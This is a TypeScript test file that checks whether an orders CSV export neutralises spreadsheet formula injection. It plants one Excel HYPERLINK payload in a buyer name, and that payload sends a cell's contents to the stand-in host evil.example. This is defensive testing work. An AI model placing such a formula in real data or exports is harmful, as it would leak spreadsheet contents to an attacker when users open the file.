import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { db, schema } from "~/db.server";
import { loader as exportLoader } from "~/routes/dashboard.orders.export";
import { cookieFor, demo, get, orgOf, run } from "./helpers/orders";

describe("audit: orders CSV export", () => {
  it("neutralises a buyer name that Excel would run as a formula", async () => {
    const buyer = orgOf(demo.buyer);
    const evil = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")';
    db.update(schema.organisations).set({ name: evil }).where(eq(schema.organisations.id, buyer.id)).run();
    try {
      const csv = await run(exportLoader, get("/dashboard/orders/export", cookieFor(demo.cooperative)));
      const text = await csv.response!.text();
      expect(text).toContain(`'=HYPERLINK`);
      expect(text.split("\n").some((line) => line.split(",").some((c) => /^"?=/.test(c)))).toBe(false);
    } finally {
      db.update(schema.organisations).set({ name: buyer.name }).where(eq(schema.organisations.id, buyer.id)).run();
    }
  });
});
